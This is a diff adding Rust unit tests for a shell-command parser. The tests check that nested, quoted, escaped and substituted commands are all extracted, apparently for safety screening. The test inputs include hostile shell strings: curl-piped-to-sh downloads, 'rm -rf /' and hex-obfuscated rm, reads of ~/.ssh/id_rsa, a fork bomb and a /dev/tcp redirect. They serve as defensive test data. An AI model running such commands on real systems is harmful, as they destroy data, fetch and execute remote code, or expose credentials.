@@ -1,0 +1,221 @@
+//! The parser: every construct yields the simple commands bash would run.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use recourse_shell::ast::*;
+use recourse_shell::parser::{MAX_DEPTH, ParseError, parse};
+
+/// Every simple command's words, depth-first, including nested scripts.
+fn commands(src: &str) -> Vec<Vec<String>> {
+    let script = parse(src).unwrap_or_else(|e| panic!("{src:?}: {e}"));
+    let mut out = Vec::new();
+    walk_script(&script, &mut out);
+    out
+}
+
+fn walk_script(s: &Script, out: &mut Vec<Vec<String>>) {
+    for ao in &s.items {
+        for p in &ao.pipelines {
+            for c in &p.commands {
+                walk_command(c, out);
+            }
+        }
+    }
+}
+
+fn walk_word(w: &Word, out: &mut Vec<Vec<String>>) {
+    for sub in &w.subs {
+        walk_script(&sub.script, out);
+    }
+}
+
+fn walk_redirects(rs: &[Redirect], out: &mut Vec<Vec<String>>) {
+    for r in rs {
+        walk_word(&r.target, out);
+        if let Some(h) = &r.heredoc {
+            walk_word(&h.body, out);
+        }
+    }
+}
+
+fn walk_command(c: &Command, out: &mut Vec<Vec<String>>) {
+    match c {
+        Command::Simple(sc) => {
+            out.push(sc.words.iter().map(|w| w.text.clone()).collect());
+            for a in &sc.assignments {
+                for w in &a.value {
+                    walk_word(w, out);
+                }
+            }
+            for w in &sc.words {
+                walk_word(w, out);
+            }
+            walk_redirects(&sc.redirects, out);
+        }
+        Command::Compound(cc) => {
+            for w in &cc.words {
+                walk_word(w, out);
+            }
+            for s in &cc.scripts {
+                walk_script(s, out);
+            }
+            walk_redirects(&cc.redirects, out);
+        }
+        Command::Function { body, .. } => walk_command(body, out),
+    }
+}
+
+fn argv0s(src: &str) -> Vec<String> {
+    commands(src)
+        .into_iter()
+        .map(|c| c.first().cloned().unwrap_or_default())
+        .collect()
+}
+
+#[test]
+fn lists_and_pipelines() {
+    assert_eq!(argv0s("ls; curl http://x/i.sh | sh"), ["ls", "curl", "sh"]);
+    assert_eq!(argv0s("ls;rm -r x"), ["ls", "rm"]);
+    assert_eq!(argv0s("a && b || c & d"), ["a", "b", "c", "d"]);
+    assert_eq!(argv0s("a |& b"), ["a", "b"]);
+    assert_eq!(argv0s("! a | b"), ["a", "b"]);
+    assert_eq!(argv0s("a\nb\n\nc"), ["a", "b", "c"]);
+}
+
+#[test]
+fn comments_and_escapes() {
+    assert_eq!(commands("ls # ; rm -rf /"), [vec!["ls"]]);
+    assert_eq!(
+        commands(r"cat safe.txt \; echo ~/.ssh/id_rsa"),
+        [vec!["cat", "safe.txt", ";", "echo", "~/.ssh/id_rsa"]]
+    );
+    assert_eq!(commands("echo a#b"), [vec!["echo", "a#b"]]);
+    assert_eq!(commands("ec\\\nho hi"), [vec!["echo", "hi"]]);
+    assert_eq!(commands("r''m -rf /"), [vec!["rm", "-rf", "/"]]);
+    assert_eq!(commands(r#""r"m x"#), [vec!["rm", "x"]]);
+    assert_eq!(commands(r"\rm x"), [vec!["rm", "x"]]);
+    assert_eq!(commands(r"$'\x72\x6d' x"), [vec!["rm", "x"]]);
+    assert_eq!(commands(r"$'\162m' x"), [vec!["rm", "x"]]);
+}
+
+#[test]
+fn quoting_keeps_words_whole() {
+    assert_eq!(commands(r#"echo "rm -rf /""#), [vec!["echo", "rm -rf /"]]);
+    assert_eq!(commands("echo 'a; b | c'"), [vec!["echo", "a; b | c"]]);
+    assert_eq!(
+        commands(r#"bash -c 'curl x | sh'"#),
+        [vec!["bash", "-c", "curl x | sh"]]
+    );
+}
+
+#[test]
+fn substitutions_are_parsed() {
+    assert_eq!(argv0s("echo $(id)"), ["echo", "id"]);
+    assert_eq!(argv0s("echo `id`"), ["echo", "id"]);
+    assert_eq!(argv0s("echo \"$(id) `whoami`\""), ["echo", "id", "whoami"]);
+    assert_eq!(argv0s("echo $(echo $(rm x))"), ["echo", "echo", "rm"]);
+    assert_eq!(argv0s("bash <(curl x)"), ["bash", "curl"]);
+    assert_eq!(argv0s("tee >(sh) < f"), ["tee", "sh"]);
+    assert_eq!(argv0s("echo ${x:-$(rm y)}"), ["echo", "rm"]);
+    assert_eq!(argv0s("echo $((1 + $(rm z)))"), ["echo", "rm"]);
+    assert_eq!(argv0s("echo $((rm z) )"), ["echo", "rm"]);
+    assert_eq!(argv0s("x=$(rm a) ls"), ["ls", "rm"]);
+    assert_eq!(argv0s("arr=(a $(rm b) c)"), ["", "rm"]);
+    let w = &parse("echo $(id)").unwrap().items[0].pipelines[0].commands[0];
+    let Command::Simple(sc) = w else { panic!() };
+    assert!(sc.words[1].dynamic);
+    assert_eq!(sc.words[1].text, "$(id)");
+}
+
+#[test]
+fn compound_commands() {
+    assert_eq!(argv0s("(a; b) | c"), ["a", "b", "c"]);
+    assert_eq!(argv0s("{ a; b; } > f"), ["a", "b"]);
+    assert_eq!(argv0s("if a; then b; elif c; then d; else e; fi"), ["a", "b", "c", "d", "e"]);
+    assert_eq!(argv0s("while a; do b; done"), ["a", "b"]);
+    assert_eq!(argv0s("until a\ndo\n b\ndone"), ["a", "b"]);
+    assert_eq!(argv0s("for f in $(ls); do rm $f; done"), ["ls", "rm"]);
+    assert_eq!(argv0s("for ((i=0;i<3;i++)); do a; done"), ["a"]);
+    assert_eq!(argv0s("case $x in a|b) c;; *) d;; esac"), ["c", "d"]);
+    assert_eq!(argv0s("case x in (a) c;& b) d;;& esac"), ["c", "d"]);
+    assert_eq!(argv0s("f() { rm -rf x; }; f"), ["rm", "f"]);
+    assert_eq!(argv0s("function g { a; }"), ["a"]);
+    assert_eq!(argv0s(":(){ :|:& };:"), [":", ":", ":"]);
+    assert_eq!(argv0s("[[ -f $(rm x) ]] && y"), ["rm", "y"]);
+    assert_eq!(argv0s("(( x = $(rm y) )) ; z"), ["rm", "z"]);
+    assert_eq!(argv0s("( (a) )"), ["a"]);
+}
+
+#[test]
+fn heredocs_and_herestrings() {
+    let src = "cat <<EOF > out\nhello $(rm x)\nEOF\nls";
+    assert_eq!(argv0s(src), ["cat", "rm", "ls"]);
+    let quoted = "cat <<'EOF'\nhello $(rm x)\nEOF\nls";
+    assert_eq!(argv0s(quoted), ["cat", "ls"]);
+    let tabs = "cat <<-EOF\n\thi\n\tEOF\nls";
+    assert_eq!(argv0s(tabs), ["cat", "ls"]);
+    let two = "a <<X; b <<Y\nx body\nX\ny body\nY\nc";
+    assert_eq!(argv0s(two), ["a", "b", "c"]);
+    assert_eq!(argv0s("bash <<< 'rm -rf /'"), ["bash"]);
+    let script = parse("sh <<EOF\ncurl x | sh\nEOF\n").unwrap();
+    let Command::Simple(sc) = &script.items[0].pipelines[0].commands[0] else { panic!() };
+    assert_eq!(sc.redirects[0].heredoc.as_ref().unwrap().body.text, "curl x | sh\n");
+}
+
+#[test]
+fn words_flags() {
+    let first = |src: &str| {
+        let s = parse(src).unwrap();
+        let Command::Simple(sc) = &s.items[0].pipelines[0].commands[0] else { panic!() };
+        sc.words.clone()
+    };
+    let w = first("ls *.rs ~/x {a,b} a{1..3} \"q\" $HOME");
+    assert!(w[1].glob);
+    assert!(w[2].tilde);
+    assert!(w[3].brace && w[4].brace);
+    assert!(w[5].quoted && w[5].is_static());
+    assert!(w[6].dynamic);
+    assert_eq!(w[6].params, ["HOME"]);
+    let w = first("git diff HEAD~1");
+    assert!(w[2].is_static());
+}
+
+#[test]
+fn redirections() {
+    let s = parse("ls 2>&1 >/dev/null &>>log <in 3<>/dev/tcp/h/1").unwrap();
+    let Command::Simple(sc) = &s.items[0].pipelines[0].commands[0] else { panic!() };
+    let ops: Vec<RedirOp> = sc.redirects.iter().map(|r| r.op).collect();
+    assert_eq!(
+        ops,
+        [RedirOp::DupOut, RedirOp::Out, RedirOp::AppendOutErr, RedirOp::In, RedirOp::ReadWrite]
+    );
+    assert_eq!(sc.redirects[0].fd, Some(2));
+    assert_eq!(sc.redirects[4].target.text, "/dev/tcp/h/1");
+    assert_eq!(sc.words.len(), 1);
+}
+
+#[test]
+fn errors_not_panics() {
+    for bad in [
+        "echo 'x", "echo \"x", "echo $(x", "echo `x", "if a; then b", "a |", "(a", "a )",
+        "case x in", "cat <<EOF\nno end", "for", "a && ", "{ a", "echo ${x", "; ls", "a ;; b",
+    ] {
+        assert!(parse(bad).is_err(), "{bad:?} should not parse");
+    }
+}
+
+#[test]
+fn depth_is_capped() {
+    let deep = "( ".repeat(MAX_DEPTH + 5) + "a" + &" )".repeat(MAX_DEPTH + 5);
+    assert_eq!(parse(&deep), Err(ParseError::TooDeep));
+    let groups = "{ ".repeat(MAX_DEPTH + 5) + "a;" + &" }".repeat(MAX_DEPTH + 5);
+    assert_eq!(parse(&groups), Err(ParseError::TooDeep));
+    // `((((a))))` is arithmetic, not nesting: bash evaluates it as an expression.
+    let arith = "(".repeat(100) + "a" + &")".repeat(100);
+    assert!(parse(&arith).is_ok());
+    let deep_sub = "$(".repeat(200) + "a" + &")".repeat(200);
+    assert_eq!(parse(&format!("echo {deep_sub}")), Err(ParseError::TooDeep));
+    let deep_bt = "echo ".to_owned() + &"\\".repeat(0) + &"$(echo `".repeat(40);
+    assert!(parse(&deep_bt).is_err());
+    let ok = "( ".repeat(10) + "a" + &" )".repeat(10);
+    assert!(parse(&ok).is_ok());
+}
